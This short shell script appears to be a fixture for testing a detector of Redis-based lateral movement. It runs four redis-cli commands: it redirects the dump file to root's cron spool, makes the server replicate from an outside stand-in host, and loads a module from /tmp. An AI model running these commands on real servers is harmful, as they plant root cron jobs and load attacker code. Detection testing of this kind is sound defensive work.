#!/bin/sh
# Redis is configured to write a file.
# expects: lateral_movement_redis_file_write 4

redis-cli -h 127.0.0.1 config set dir /var/spool/cron
redis-cli -h 127.0.0.1 config set dbfilename root
redis-cli -h 127.0.0.1 slaveof 198.51.100.7 6380
redis-cli -h 127.0.0.1 module load /tmp/tool.so
